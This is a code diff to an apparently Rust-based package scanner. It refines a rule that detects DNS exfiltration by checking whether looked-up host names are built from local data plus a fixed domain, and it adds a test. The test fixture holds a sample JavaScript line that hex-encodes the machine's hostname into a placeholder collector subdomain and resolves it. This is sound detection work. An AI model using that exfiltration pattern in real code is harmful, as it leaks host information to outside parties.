@@ -64,6 +64,36 @@ public IP (an NTP or STUN server) may be reported moderate.
 "#,
 };
 
+/// Whether the looked-up name is assembled from pieces in this file with a fixed domain part
+/// (`label + '.d.example.com'`, `` `${hex}.x.oast.fun` ``, `[...parts, 'example', 'com'].join('.')`),
+/// directly or in the variable's assignment: servers and mailers resolve host names they were
+/// given (a parameter), which carry nothing.
+fn dns_name_is_built(file: &FileFacts, call: &crate::facts::Call) -> bool {
+    let domain_part = |s: &str| {
+        let concat = s.contains('+') || s.contains('`') || s.contains(".join(");
+        concat
+            && ["'.", "\".", "`.", "}.", "join('.')", "join(\".\")"]
+                .iter()
+                .any(|p| s.contains(p))
+    };
+    let source = signals::first_arg_source(&call.excerpt).trim();
+    if domain_part(source) {
+        return true;
+    }
+    let plain = !source.is_empty()
+        && source
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$');
+    if !plain {
+        return false;
+    }
+    let text = file.text.as_deref().unwrap_or("");
+    signals::assignment_lines(text, source)
+        .into_iter()
+        .filter_map(|line| text.lines().nth(line as usize - 1))
+        .any(domain_part)
+}
+
 const DNS_CALLS: &[&str] = &[
     "dns.lookup",
     "dns.resolve",
@@ -110,7 +140,10 @@ impl FileRule for ExfilSink {
                 .is_some_and(|host| sinks::exfil_service(host, host).is_some());
             let computed = sinks::is_computed(name);
             // Bundles resolve computed host names everywhere (HTTP agents, service discovery).
-            if literal_hex_label || oast || (computed && (encodes || collects) && !sinks::is_bundle(file)) {
+            if literal_hex_label
+                || oast
+                || (computed && (encodes || collects) && !sinks::is_bundle(file) && dns_name_is_built(file, call))
+            {
                 out.push(sinks::finding(
                     &INFO,
                     file,
@@ -443,6 +476,15 @@ mod tests {
             Severity::Moderate
         );
         assert!(run("const http = require('http');\nhttp.get('http://127.0.0.1:8080/ping');").is_empty());
+    }
+
+    #[test]
+    fn resolving_a_given_host_name_is_not_dns_exfiltration() {
+        // fastify/nodemailer: the host comes in as a parameter; the file lists interfaces.
+        let source = "const dns = require('dns'), os = require('os');\nfunction listen(host, cb) {\n  const addrs = os.networkInterfaces();\n  dns.lookup(host, { all: true }, (err, found) => cb(err, found, addrs));\n}\nmodule.exports = listen;";
+        assert!(run(source).is_empty(), "{:#?}", run(source));
+        let built = "const dns = require('dns'), os = require('os');\nconst targetHost = Buffer.from(os.hostname()).toString('hex') + '.x.collector.invalid';\ndns.lookup(targetHost, () => {});";
+        assert_eq!(worst(built), Severity::Critical, "{:#?}", run(built));
     }
 
     #[test]
